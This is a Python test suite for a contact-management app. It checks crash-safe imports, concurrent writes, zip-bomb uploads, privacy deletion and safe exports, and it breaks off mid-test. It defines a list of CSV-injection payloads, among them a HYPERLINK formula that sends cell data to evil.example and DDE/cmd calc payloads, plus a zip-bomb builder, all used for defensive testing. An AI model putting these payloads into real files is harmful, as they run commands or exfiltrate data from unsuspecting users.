"""Issue 7: nothing lost under crashes, concurrent use and hostile input; private by design.

Each section proves one promise of the issue with real faults: a process killed at each named
fault point of a 30,000-row import, threads writing the same rows, writes the pages must
report in one sentence, forged uploads, formulas in exports, deletion of a person, and old
databases carried through every migration.
"""

from __future__ import annotations

import ast
import csv
import io
import os
import shutil
import subprocess
import sys
import threading
import tomllib
import tracemalloc
import zipfile
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from benchmarks import generate
from infoint import (
    cli,
    contacts,
    db,
    demo,
    export,
    followups,
    importer,
    interactions,
    linkedin,
    meetings,
    settings,
    targets,
    ui,
)
from infoint.errors import ConflictError

ROOT = Path(__file__).resolve().parent.parent
BIG_ROWS = 30_000
EARLIER_ROWS = 3_000  # the oldest people of the big export, imported before it
RETITLED_EVERY = 10  # every 10th of them had another title then: the big import updates them


def content_digest(conn) -> str:
    """Every table's rows, to the byte, as an order-free digest (its rows are distinct)."""
    tables = conn.execute(
        "SELECT table_name FROM duckdb_tables() WHERE NOT temporary ORDER BY table_name"
    ).fetchall()
    parts = " UNION ALL ".join(
        f"SELECT '{name}' AS name, count(*) AS n, coalesce(bit_xor(hash(r)), 0) AS digest"
        f' FROM "{name}" AS r'
        for (name,) in tables
        if name not in ("migrations", "write_log", "company_spellings")
    )
    return conn.execute(
        f"SELECT string_agg(name || ':' || n || ':' || digest, ';' ORDER BY name) FROM ({parts})"
    ).fetchall()[0][0]


# --- 1. Crashes: a 30,000-row import killed at every fault point -------------------------


def run_cli(db_path: Path, *argv, fault: str | None = None) -> subprocess.CompletedProcess:
    """`python -m infoint.cli --db … ARGV` in its own process, killed at `fault` if named."""
    env = {key: value for key, value in os.environ.items() if key != "INFOINT_FAULT"}
    if fault:
        env["INFOINT_FAULT"] = fault
    return subprocess.run(
        [sys.executable, "-m", "infoint.cli", "--db", str(db_path), *map(str, argv)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=env,
        timeout=180,
    )


# Counts of every table a crash could touch, and checksums that ignore only the moments rows
# were written (a rerun writes other timestamps): people by identity and every field, companies,
# job changes, and the user's events by the person they are about.
_STATE = {
    "contacts": "SELECT count(*), bit_xor(hash(c.profile_key, c.linkedin_url, c.first_name,"
    " c.last_name, c.email, c.linkedin_email, co.match_key, c.position, c.connected_on, c.degree,"
    " c.source, c.notes, c.tags)) FROM contacts c LEFT JOIN companies co ON co.id = c.company_id",
    "companies": "SELECT count(*), bit_xor(hash(name, match_key, industry, status, motivation,"
    " postings, source)) FROM companies",
    "contact_changes": "SELECT count(*), bit_xor(hash(c.profile_key, x.field, x.old_value,"
    " x.new_value)) FROM contact_changes x JOIN contacts c ON c.id = x.contact_id",
    "interactions": "SELECT count(*), bit_xor(hash(c.profile_key, i.kind, i.occurred_at, i.body))"
    " FROM interactions i JOIN contacts c ON c.id = i.contact_id",
    "meetings": "SELECT count(*), bit_xor(hash(c.profile_key, m.starts_at, m.status, m.notes))"
    " FROM meetings m JOIN contacts c ON c.id = m.contact_id",
    "due_item_states": "SELECT count(*), bit_xor(hash(item_key, snoozed_until, dismissed))"
    " FROM due_item_states",
    "import_batches": "SELECT count(*), bit_xor(hash(file_name, sha256, added, updated,"
    " unchanged, skipped)) FROM import_batches",
}


def state(db_path: Path) -> dict[str, tuple[int, int]]:
    conn = db.connect(db_path)
    try:
        return {table: tuple(conn.execute(sql).fetchall()[0]) for table, sql in _STATE.items()}
    finally:
        conn.close()


@pytest.fixture(scope="session")
def campaign(tmp_path_factory) -> dict:
    """Written once per session: the 30,000-row export; a database holding an earlier import
    of its oldest 3,000 people (some with other titles) and the user's own work on them; and
    that database as the big import leaves it."""
    folder = tmp_path_factory.mktemp("campaign")
    frame = generate.connections_frame(BIG_ROWS)
    big = folder / "Connections.csv"
    big.write_bytes(generate.frame_bytes(frame))
    earlier_frame = frame.tail(EARLIER_ROWS).copy()
    earlier_frame.iloc[::RETITLED_EVERY, 5] = "Intern"
    earlier = folder / "earlier.csv"
    earlier.write_bytes(generate.frame_bytes(earlier_frame))

    base = folder / "base" / "infoint.duckdb"
    conn = db.connect(base)
    try:
        importer.import_file(conn, earlier)
        people = [
            row[0]
            for row in conn.execute(
                "SELECT id FROM contacts WHERE first_name <> '' ORDER BY id LIMIT 5"
            ).fetchall()
        ]
        outreach = interactions.log_interaction(
            conn, people[0], "outreach", occurred_at=datetime(2026, 3, 2, 10), body="Coffee?"
        )
        interactions.log_interaction(conn, people[1], "outreach", occurred_at=date(2026, 3, 2))
        interactions.log_interaction(conn, people[1], "reply", occurred_at=date(2026, 3, 3))
        meeting = meetings.schedule_meeting(conn, people[2], datetime(2026, 3, 9, 10, tzinfo=UTC))
        meetings.set_outcome(conn, meeting, "held", actual_minutes=25, notes="Useful")
        contacts.update_contact(
            conn,
            people[3],
            email="",
            degree="2nd",
            mutual_contact_id=people[4],
            referred_by=None,
            notes="mine",
            tags="warm",
        )
        followups.snooze(conn, f"follow_up:{outreach}", date(2026, 4, 1), today=date(2026, 3, 12))
    finally:
        conn.close()

    after = folder / "after" / "infoint.duckdb"
    after.parent.mkdir()
    shutil.copy2(base, after)
    done = run_cli(after, "import", big, "--json")
    assert done.returncode == 0, done.stderr
    named = int(((earlier_frame["First Name"] != "") | (earlier_frame["Last Name"] != "")).sum())
    return {
        "big": big,
        "base": base,
        "named_earlier": named,
        "before": state(base),
        "after": state(after),
    }


def test_the_big_import_changes_every_checked_table_but_the_users_own(campaign):
    before, after = campaign["before"], campaign["after"]
    assert before["contacts"][0] == campaign["named_earlier"] > EARLIER_ROWS * 0.95
    assert after["contacts"][0] > 29_000
    assert after["import_batches"][0] == before["import_batches"][0] + 1
    assert after["contact_changes"][0] >= EARLIER_ROWS // RETITLED_EVERY - 30
    for table in ("contacts", "companies", "contact_changes", "import_batches"):
        assert after[table] != before[table], table
    for table in ("interactions", "meetings", "due_item_states"):
        assert after[table] == before[table], table


@pytest.mark.parametrize(
    ("fault", "kept"),
    [
        ("after_parse", "none"),
        ("mid_upsert", "none"),
        ("before_commit", "none"),
        ("after_commit", "all"),
    ],
)
def test_a_killed_import_leaves_all_of_it_or_none_and_the_earlier_data_intact(
    campaign, tmp_path, fault, kept
):
    path = tmp_path / "infoint.duckdb"
    shutil.copy2(campaign["base"], path)
    done = run_cli(path, "import", campaign["big"], fault=fault)
    assert done.returncode == -9, (done.returncode, done.stderr)  # SIGKILL: no cleanup ran
    assert done.stdout == ""
    assert state(path) == campaign["before" if kept == "none" else "after"]
    backups = db.list_backups(path)
    if fault == "after_parse":
        assert backups == []  # killed before the database was even opened
    else:
        # The copy taken before the import holds the data as it was.
        [taken] = backups
        assert state(taken) == campaign["before"]
    if fault in ("mid_upsert", "before_commit"):
        # Nothing half-done stands in the way: the same import now runs to the end.
        conn = db.connect(path)
        try:
            assert importer.import_file(conn, campaign["big"]).added > 25_000
        finally:
            conn.close()
        assert state(path) == campaign["after"]


def test_every_fault_point_is_tested():
    assert set(importer.FAULT_POINTS) == {
        "after_parse",
        "mid_upsert",
        "before_commit",
        "after_commit",
    }


# --- 2. Concurrent use: one connection, a cursor per operation, as the app does -----------

WORKERS = 6  # two each: logging interactions, editing people, snoozing reminders
ROUNDS = 30


def test_threads_logging_editing_and_snoozing_the_same_rows_lose_nothing(conn):
    people = [contacts.add_contact(conn, f"Person {n}") for n in range(3)]
    reminders = [f"follow_up:{n}" for n in range(3)]
    logged: list[str] = []
    saved: dict[object, list] = {target: [] for target in [*people, *reminders]}
    refused: dict[object, list] = {target: [] for target in [*people, *reminders]}
    unexpected: list[BaseException] = []
    record = threading.Lock()
    start = threading.Barrier(WORKERS)

    def write(cursor, role: int, worker: int, n: int) -> tuple[object, object]:
        """One write of this worker's kind; returns what it wrote to which row."""
        if role == 0:
            text = f"worker {worker}, round {n}"
            interactions.log_interaction(
                cursor, people[n % 3], "note", occurred_at=date(2026, 3, 2), body=text
            )
            return None, text
        if role == 1:
            text = f"worker {worker}, round {n}"
            contacts.update_contact(
                cursor,
                people[n % 3],
                email="",
                degree="1st",
                mutual_contact_id=None,
                referred_by=None,
                notes=text,
                tags="",
            )
            return people[n % 3], text
        until = date(2026, 4, 1) + timedelta(days=worker * ROUNDS + n)
        followups.snooze(cursor, reminders[n % 3], until, today=date(2026, 3, 12))
        return reminders[n % 3], until

    def work(worker: int) -> None:
        role = worker % 3
        start.wait()
        for n in range(ROUNDS):
            cursor = conn.cursor()  # the app's pattern: a cursor per operation
            try:
                target, value = write(cursor, role, worker, n)
            except ConflictError as exc:
                assert "try again" in str(exc)
                target = people[n % 3] if role == 1 else reminders[n % 3]
                with record:
                    refused[target].append((worker, n))
            except BaseException as exc:  # anything else fails the test below
                with record:
                    unexpected.append(exc)
            else:
                with record:
                    (logged if target is None else saved[target]).append(value)
            finally:
                cursor.close()

    threads = [threading.Thread(target=work, args=(w,)) for w in range(WORKERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert unexpected == []  # never a raw DuckDB error, never anything swallowed silently
    per_role = WORKERS // 3 * ROUNDS
    assert len(logged) == per_role  # inserts of new rows never conflict
    bodies = [row[0] for row in conn.execute("SELECT body FROM interactions").fetchall()]
    assert sorted(bodies) == sorted(logged)  # every logged interaction is there, once
    for targets_of_a_role in (people, reminders):
        writes = sum(len(saved[t]) + len(refused[t]) for t in targets_of_a_role)
        assert writes == per_role  # each write either saved or refused, none lost between
    for person in people:
        [(notes,)] = conn.execute("SELECT notes FROM contacts WHERE id = ?", [person]).fetchall()
        assert notes in saved[person]  # one of the successful writes, never a refused one
    for key in reminders:
        [(until,)] = conn.execute(
            "SELECT snoozed_until FROM due_item_states WHERE item_key = ?", [key]
        ).fetchall()
        assert until in saved[key]


def test_an_edit_that_meets_another_open_write_is_refused_in_one_sentence(conn):
    person = contacts.add_contact(conn, "Ana", "Lee", notes="first")
    other = conn.cursor()
    other.execute("BEGIN TRANSACTION")
    other.execute("UPDATE contacts SET notes = 'theirs' WHERE id = ?", [person])
    mine = conn.cursor()
    with pytest.raises(ConflictError) as refused:
        contacts.update_contact(
            mine,
            person,
            email="",
            degree="1st",
            mutual_contact_id=None,
            referred_by=None,
            notes="mine",
            tags="",
        )
    assert str(refused.value).count(".") == 1 and "try again" in str(refused.value)
    other.execute("COMMIT")
    assert contacts.get_contact(conn, person).notes == "theirs"
    # Trying again, as the message says, works.
    contacts.update_contact(
        mine,
        person,
        email="",
        degree="1st",
        mutual_contact_id=None,
        referred_by=None,
        notes="mine",
        tags="",
    )
    assert contacts.get_contact(conn, person).notes == "mine"


def test_two_sessions_adding_the_same_key_at_once_is_a_conflict_not_a_raw_error(conn):
    """Two snoozes of one reminder at once: the unique key clashes only at the later COMMIT,
    which is a conflict like any other."""
    first, second = conn.cursor(), conn.cursor()
    first.execute("BEGIN TRANSACTION")
    first.execute("INSERT INTO due_item_states (item_key, dismissed) VALUES ('follow_up:1', true)")
    with pytest.raises(ConflictError, match="try again"), db.transaction(second):
        second.execute(
            "INSERT INTO due_item_states (item_key, snoozed_until) VALUES"
            " ('follow_up:1', DATE '2026-04-01')"
        )
        first.execute("COMMIT")
    assert conn.execute("SELECT snoozed_until, dismissed FROM due_item_states").fetchall() == [
        (None, True)
    ]


def test_a_conflict_on_a_page_is_one_sentence_not_a_traceback(app_db):
    setup = db.connect(app_db)
    ann = contacts.add_contact(setup, "Ann", "Lee")
    setup.close()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=30)
    at.switch_page("pages/2_contacts.py")
    at.query_params.update(contact=str(ann))
    at.session_state["contact_tab"] = "Edit details"
    at.run()
    assert not at.exception
    # Another session of the same app process is saving the same person right now.
    other = ui.connection()
    other.execute("BEGIN TRANSACTION")
    other.execute("UPDATE contacts SET notes = 'theirs' WHERE id = ?", [ann])
    at.text_input(key=f"edit_tags_{ann}").input("warm")
    at.button(key=f"save_{ann}").click()
    at.run()
    other.execute("COMMIT")
    assert not at.exception
    assert [error.value for error in at.error] == [
        "Someone else changed the same record at the same moment, so nothing was saved; "
        "please try again."
    ]
    assert contacts.get_contact(other, ann).tags == ""


def _writers() -> set[tuple[str, str]]:
    """(module, function) of every infoint function that writes, directly or through another."""
    found: dict[tuple[str, str], ast.FunctionDef] = {}
    for path in (ROOT / "infoint").glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.FunctionDef):
                found[(path.stem, node.name)] = node

    def called(node: ast.AST, module: str) -> set[tuple[str, str]]:
        calls = set()
        for call in ast.walk(node):
            if isinstance(call, ast.Call):
                if isinstance(call.func, ast.Attribute) and isinstance(call.func.value, ast.Name):
                    calls.add((call.func.value.id, call.func.attr))
                elif isinstance(call.func, ast.Name):
                    calls.add((module, call.func.id))
        return calls

    writers = {("db", "transaction"), ("db", "backup"), ("db", "restore")}
    grew = True
    while grew:
        grew = False
        for key, node in found.items():
            if key not in writers and called(node, key[0]) & writers:
                writers.add(key)
                grew = True
    return writers


def _unguarded_writes(path: Path, writers: set[tuple[str, str]]) -> list[str]:
    tree = ast.parse(path.read_text())
    parents = {child: node for node in ast.walk(tree) for child in ast.iter_child_nodes(node)}
    bare = []
    for call in ast.walk(tree):
        func = getattr(call, "func", None)
        if not (
            isinstance(call, ast.Call)
            and isinstance(func, ast.Attribute)
            and isinstance(func.value, ast.Name)
            and (func.value.id, func.attr) in writers
            and func.value.id != "ui"  # ui.page reports a database it cannot open itself
        ):
            continue
        node, guarded = call, False
        while node in parents and not guarded:
            node, child = parents[node], node
            guarded = (
                isinstance(node, ast.Try)
                and child in node.body
                and any(
                    handler.type is not None and "InfointError" in ast.unparse(handler.type)
                    for handler in node.handlers
                )
            )
        if not guarded:
            bare.append(f"{path.name}:{call.lineno} {ast.unparse(func)}")
    return bare


def test_every_write_a_page_makes_shows_our_errors_as_one_sentence():
    """A conflict (or any of our errors) from a write must reach st.error, not a traceback."""
    writers = _writers()
    assert {("contacts", "update_contact"), ("followups", "dismiss")} <= writers
    pages = [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py"))]
    bare = [where for page in pages for where in _unguarded_writes(page, writers)]
    assert bare == []


def test_a_backup_beside_an_open_write_is_the_data_as_committed(conn, db_path):
    contacts.add_contact(conn, "Ana")
    other = conn.cursor()
    other.execute("BEGIN TRANSACTION")
    other.execute("UPDATE contacts SET notes = 'not saved yet'")
    try:
        taken = db.backup(conn)  # waits for no one, and takes none of the open write
    finally:
        other.execute("COMMIT")
    copy = duckdb.connect(str(taken), read_only=True)
    try:
        assert copy.execute("SELECT first_name, notes FROM contacts").fetchall() == [("Ana", "")]
    finally:
        copy.close()
    assert conn.execute("SELECT notes FROM contacts").fetchall() == [("not saved yet",)]


# --- 3. Hostile and odd input -------------------------------------------------------------


def test_the_fuzz_test_is_derandomised_and_bounded_under_ci():
    """`.ci/run` sets CI; then every fuzz test replays the same, bounded set of examples."""
    assert "CI=true" in (ROOT / ".ci" / "run").read_text()
    code = (
        "import sys\n"
        "sys.path.insert(0, 'tests')\n"
        "import conftest, test_linkedin_fuzz as fuzz\n"
        "for name in sorted(dir(fuzz)):\n"
        "    found = getattr(getattr(fuzz, name), '_hypothesis_internal_use_settings', None)\n"
        "    if found is not None:\n"
        "        print(name, found.derandomize, found.database is None, found.max_examples)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ, "CI": "true"},
        check=True,
    )
    tests = [line.split() for line in done.stdout.splitlines()]
    assert len(tests) >= 5, done.stdout
    for name, derandomised, no_database, examples in tests:
        assert (derandomised, no_database) == ("True", "True"), name
        assert 1 <= int(examples) <= 100, name


def _uploaders(path: Path) -> list[ast.Call]:
    return [
        node
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "file_uploader"
    ]


def _megabytes(path: Path, value: ast.expr) -> int:
    """A max_upload_size given as a number or as a module-level constant of the page."""
    if isinstance(value, ast.Constant):
        return int(value.value)
    assert isinstance(value, ast.Name), ast.unparse(value)
    for node in ast.parse(path.read_text()).body:
        if isinstance(node, ast.Assign) and any(
            isinstance(target, ast.Name) and target.id == value.id for target in node.targets
        ):
            return int(ast.literal_eval(node.value))
    raise AssertionError(f"{path.name}: {value.id} is not a constant of the page")


def test_every_upload_is_bounded_by_the_config_and_by_its_widget():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    server_limit = config["server"]["maxUploadSize"]
    assert server_limit <= 50
    assert server_limit * 1024 * 1024 >= linkedin.MAX_UPLOAD_BYTES
    found = 0
    for path in [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py"))]:
        for call in _uploaders(path):
            found += 1
            sizes = [k.value for k in call.keywords if k.arg == "max_upload_size"]
            assert sizes, f"{path.name}:{call.lineno} has no max_upload_size"
            assert 1 <= _megabytes(path, sizes[0]) <= server_limit, f"{path.name}:{call.lineno}"
    assert found >= 3  # LinkedIn export, target list, LinkedIn history


def zeros_zip(megabytes: int) -> bytes:
    """A zip whose Connections.csv unpacks to `megabytes` MB of zeros (built 1 MB at a time)."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("Connections.csv", "w", force_zip64=True) as member,
    ):
        block = bytes(1024 * 1024)
        for _ in range(megabytes):
            member.write(block)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("bomb") / "linkedin-archive.zip"
    path.write_bytes(zeros_zip(linkedin.MAX_MEMBER_BYTES // 1024 // 1024 + 20))
    return path


def test_a_zip_bomb_at_the_command_line_is_refused_before_unpacking(bomb, conn, db_path, capsys):
    contacts.add_contact(conn, "Ana")
    before = content_digest(conn)
    conn.close()
    tracemalloc.start()
    try:
        code = cli.main(["--db", str(db_path), "import", str(bomb)])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    out, err = capsys.readouterr()
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and "was not opened" in err
    assert peak < 10 * 1024 * 1024  # the 120 MB inside were never held
    reopened = db.connect(db_path)
    try:
        assert content_digest(reopened) == before
        assert db.list_backups(db_path) == []
    finally:
        reopened.close()


def test_a_zip_bomb_uploaded_on_the_page_is_one_sentence_and_changes_nothing(bomb, app_db):
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.switch_page("pages/8_import_export.py")
    at.run()
    uploader = next(u for u in at.get("file_uploader") if "LinkedIn" in u.label)
    uploader.set_value((bomb.name, bomb.read_bytes(), "application/zip"))
    at.run()
    next(b for b in at.button if b.label == "Import").click()
    at.run()
    assert not at.exception
    [error] = [e.value for e in at.error]
    reason, reassurance = error.split(". ")  # the reason, then that nothing changed
    assert "was not opened" in reason and reassurance.startswith("Nothing was imported")
    conn = db.connect(app_db)
    try:
        assert conn.execute("SELECT count(*) FROM import_batches").fetchall() == [(0,)]
        assert db.list_backups(app_db) == []
    finally:
        conn.close()


# --- 4. Exports that can't attack ---------------------------------------------------------

# OWASP's CSV-injection starts (=, +, -, @, tab, carriage return), alone and in known payloads.
HOSTILE = (
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"!A0")',
)


@pytest.fixture
def hostile(conn):
    """A person per hostile value as their name, company, title and notes, kept untrimmed
    (the forms trim names, but notes keep a leading tab)."""
    with db.transaction(conn):
        for n, value in enumerate(HOSTILE):
            [(company,)] = conn.execute(
                "INSERT INTO companies (name, match_key) VALUES (?, company_key(?)) RETURNING id",
                [f"{value} {n}", f"{value} {n}"],
            ).fetchall()
            conn.execute(
                "INSERT INTO contacts (profile_key, first_name, last_name, company_id, position,"
                " notes) VALUES (?, ?, ?, ?, ?, ?)",
                [f"hostile:{n}", value, f"Person {n}", company, value, value],
            )
    return conn


def test_the_workbook_holds_every_hostile_value_as_quoted_text(hostile):
    book = load_workbook(io.BytesIO(export.workbook_bytes(hostile)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    # XML reads a bare carriage return back as a line feed; the text is otherwise exact.
    hostile_texts = {value.replace("\r", "\n") for value in HOSTILE} | {
        f"{value} {n}".replace("\r", "\n") for n, value in enumerate(HOSTILE)
    }
    found = [cell for cell in cells if cell.value in hostile_texts]
    assert {cell.value for cell in found} == hostile_texts  # names, companies, titles, notes
    assert len(found) >= 4 * len(HOSTILE)
    risky = [
        cell
        for cell in cells
        if isinstance(cell.value, str) and cell.value.startswith(export.FORMULA_TRIGGERS)
    ]
    for cell in [*found, *risky]:
        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate


def test_the_csv_quotes_every_hostile_value_and_our_own_import_takes_the_quote_off(hostile):
    data = export.contacts_csv_bytes(hostile)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for value in row.values():
            assert not value.startswith(export.FORMULA_TRIGGERS), value
    assert {row["First name"] for row in rows} == {"'" + value for value in HOSTILE}
    assert {row["Notes"] for row in rows} == {"'" + value for value in HOSTILE}

    # The same file as a target list (its "Company" column is the name): quotes come off, so
    # every company is found again by its exact name and none is added twice.
    preview = targets.read_target_list(hostile, data, "infoint-contacts.csv")
    assert preview.problems == []
    names = set(preview.frame["name"])
    assert names == {f"{value} {n}" for n, value in enumerate(HOSTILE)}
    companies_before = hostile.execute("SELECT count(*) FROM companies").fetchall()
    done = targets.import_target_list(hostile, preview)
    assert (done.added, done.already_here) == (0, len(HOSTILE))
    assert hostile.execute("SELECT count(*) FROM companies").fetchall() == companies_before


# --- 5. Privacy: deleting a person leaves nothing about them ------------------------------

MARK = "zyxwvq"  # written into every field about the person to delete, and nowhere else
MONDAY = datetime(2026, 3, 2, 10, 0)
CHECK_DAY = date(2026, 3, 12)  # the day after seven business days after MONDAY: all have fired
EXPORT_HEAD = "Notes:\n\nFirst Name,Last Name,URL,Email Address,Company,Position,Connected On\n"


def _linkedin_row(position: str) -> bytes:
    return (
        EXPORT_HEAD + f"Gone,{MARK.title()},https://www.linkedin.com/in/{MARK},{MARK}@mail.example,"
        f"Acme,{position},01 Jan 2024"
    ).encode()


def _noon(day: date) -> datetime:
    """Noon that day in UTC, the user's time zone here: the due-now rules take a moment."""
    return datetime.combine(day, time(12), UTC)


def _keys_about(conn, person: int, day: date) -> dict[str, str]:
    return {
        item.key: item.kind
        for item in followups.due_items(conn, _noon(day))
        if item.contact_id == person
    }


def _leftovers(conn, person: int, meeting_ids: list[int], keys: list[str]) -> list[str]:
    """Every place in the schema that still mentions the person or their events."""
    found = []
    columns = conn.execute(
        "SELECT table_name, column_name, data_type FROM duckdb_columns()"
        " WHERE database_name = current_database() AND schema_name = 'main'"
    ).fetchall()
    for table, column, kind in columns:
        if kind == "VARCHAR":
            where, params = f'contains(lower("{column}"), ?)', [MARK]
        elif column in ("contact_id", "mutual_contact_id", "referred_by"):
            where, params = f'"{column}" = ?', [person]
        elif column == "meeting_id":
            where, params = f'list_contains(?, "{column}")', [meeting_ids]
        else:
            continue
        [(count,)] = conn.execute(
            f'SELECT count(*) FROM "{table}" WHERE {where}', params
        ).fetchall()
        if count:
            found.append(f"{table}.{column}: {count}")
    [(states,)] = conn.execute(
        "SELECT count(*) FROM due_item_states WHERE list_contains(?, item_key)", [keys]
    ).fetchall()
    if states:
        found.append(f"due_item_states: {states}")
    return found


def test_deleting_a_person_leaves_no_row_about_them_or_their_events(conn):
    importer.import_file(conn, _linkedin_row("PM"), filename="Connections.csv")
    importer.import_file(conn, _linkedin_row("Lead PM"), filename="Connections.csv")
    [(gone,)] = conn.execute("SELECT id FROM contacts").fetchall()
    contacts.update_contact(
        conn,
        gone,
        email=f"{MARK}@home.example",
        degree="1st",
        mutual_contact_id=None,
        referred_by=None,
        notes=f"met {MARK} at a fair",
        tags=MARK,
    )
    contacts.add_contact(conn, "Stay", "Here", company="Acme")  # someone else to try there
    keep = contacts.add_contact(conn, "Keep", "Me", company="Globex")
    interactions.log_interaction(
        conn, gone, "outreach", occurred_at=MONDAY, subject=f"Hello {MARK}", body=MARK
    )
    interactions.log_interaction(conn, keep, "outreach", occurred_at=MONDAY)
    # The silence reminders, each snoozed or dismissed.
    silence = _keys_about(conn, gone, CHECK_DAY)
    [kept_key] = _keys_about(conn, keep, CHECK_DAY)
    followups.dismiss(conn, kept_key)
    # Then meetings: held (thank-you due), tomorrow (prepare) and over without an outcome.
    held = meetings.schedule_meeting(conn, gone, datetime(2026, 3, 9, 10, tzinfo=UTC), place=MARK)
    meetings.set_outcome(conn, held, "held", actual_minutes=20, notes=MARK)
    tomorrow = meetings.schedule_meeting(conn, gone, datetime(2026, 3, 13, 15, tzinfo=UTC))
    over = meetings.schedule_meeting(conn, gone, datetime(2026, 3, 10, 14, tzinfo=UTC))
    meeting_reminders = _keys_about(conn, gone, CHECK_DAY)
    reminders = silence | meeting_reminders
    assert set(reminders.values()) == set(followups.KIND_LABELS)  # every kind of reminder
    for n, key in enumerate(reminders):
        if n % 2:
            followups.dismiss(conn, key)
        else:
            followups.snooze(conn, key, date(2026, 4, 1), today=CHECK_DAY)
    question = conn.execute("SELECT min(id) FROM questions").fetchall()[0][0]
    meetings.save_prep(conn, held, question_ids=[question], prep_notes=MARK)
    with db.transaction(conn):
        conn.execute("UPDATE meeting_questions SET answer = ? WHERE meeting_id = ?", [MARK, held])
    contacts.add_contact(
        conn, "Introduced", "Friend", referred_by=gone, mutual_contact_id=gone, degree="2nd"
    )
    their_meetings = [held, tomorrow, over]
    keys = list(reminders)
    assert len(_leftovers(conn, gone, their_meetings, keys)) >= 12  # the check sees them all

    removed = contacts.delete_contact(conn, gone)

    assert removed == contacts.Moved(
        interactions=1,
        meetings=3,
        changes=1,
        made_cold="Introduced Friend had no one else connecting you to them, so they are cold now.",
    )
    assert _leftovers(conn, gone, their_meetings, keys) == []
    # Everyone else's rows stay: the introduced friend (unlinked, so cold), Keep's outreach and
    # reminder.
    assert conn.execute(
        "SELECT first_name, referred_by, mutual_contact_id, degree FROM contacts ORDER BY id"
    ).fetchall() == [
        ("Stay", None, None, "1st"),
        ("Keep", None, None, "1st"),
        ("Introduced", None, None, "cold"),
    ]
    assert conn.execute("SELECT item_key FROM due_item_states").fetchall() == [(kept_key,)]
    assert conn.execute("SELECT count(*) FROM interactions").fetchall() == [(1,)]


def test_a_merge_carries_snoozes_and_dismissals_with_the_events(conn):
    """Reminder keys name the event, and a merge moves events without changing their ids."""
    kept = contacts.add_contact(conn, "Ana", "Lee", company="Acme")
    twin = contacts.add_contact(conn, "Ana", "Lee", company="Acme", email="ana@acme.example")
    contacts.add_contact(conn, "Bo", "Berg", company="Acme")
    outreach = interactions.log_interaction(conn, twin, "outreach", occurred_at=MONDAY)
    assert {item.key for item in followups.due_items(conn, _noon(CHECK_DAY))} == {
        f"follow_up:{outreach}",
        f"try_another:{outreach}",
    }
    followups.snooze(conn, f"follow_up:{outreach}", date(2026, 3, 20), today=CHECK_DAY)
    followups.dismiss(conn, f"try_another:{outreach}")
    states_before = conn.execute("SELECT * FROM due_item_states ORDER BY ALL").fetchall()

    contacts.merge_contacts(conn, kept, twin)

    assert conn.execute("SELECT * FROM due_item_states ORDER BY ALL").fetchall() == states_before
    assert followups.due_items(conn, _noon(CHECK_DAY)) == []  # still snoozed and dismissed
    [back] = followups.due_items(conn, _noon(date(2026, 3, 20)))  # the snooze is over
    assert (back.key, back.contact_id) == (f"follow_up:{outreach}", kept)


DEMO_DAY = date(2026, 5, 13)


def test_removing_the_demo_leaves_the_users_import_and_events_exactly_as_they_were(conn):
    importer.import_file(conn, ROOT / "tests" / "fixtures" / "linkedin" / "current.csv")
    own = [row[0] for row in conn.execute("SELECT id FROM contacts ORDER BY id").fetchall()]
    outreach = interactions.log_interaction(
        conn, own[0], "outreach", occurred_at=datetime(2026, 5, 1, 9)
    )
    meetings.schedule_meeting(conn, own[1], datetime(2026, 5, 20, 9, tzinfo=UTC))
    followups.dismiss(conn, f"follow_up:{outreach}")
    contacts.update_contact(
        conn,
        own[2],
        email="",
        degree="2nd",
        mutual_contact_id=own[1],
        referred_by=None,
        notes="mine",
        tags="x",
    )
    before = content_digest(conn)

    demo.load_demo(conn, today=DEMO_DAY)
    # The user works with the demo too: logs, meets and snoozes reminders about demo people.
    demo_people = conn.execute(
        "SELECT id FROM contacts WHERE source = 'demo' ORDER BY id LIMIT 2"
    ).fetchall()
    interactions.log_interaction(conn, demo_people[0][0], "note", body="looks promising")
    meetings.schedule_meeting(conn, demo_people[1][0], datetime(2026, 5, 21, 9, tzinfo=UTC))
    demo_reminders = [
        item.key
        for item in followups.due_items(conn, _noon(DEMO_DAY))
        if item.contact_id not in own
    ]
    assert demo_reminders
    for key in demo_reminders:
        followups.dismiss(conn, key)

    demo.remove_demo(conn)

    assert content_digest(conn) == before  # every table, the user's rows to the byte
    assert not demo.has_demo(conn)


# --- 6. Undo: a backup before each import that changes something, the last five kept -------


def test_each_import_backs_up_first_and_the_last_five_backups_stay_beside_the_users(conn, db_path):
    contacts.add_contact(conn, "Mine")
    mine = db.backup(conn)
    rows = []
    for n in range(7):
        rows.append(f"P{n},Person,https://www.linkedin.com/in/p-{n},,Acme,Role,01 Jan 2024")
        data = (EXPORT_HEAD + "\n".join(rows)).encode()
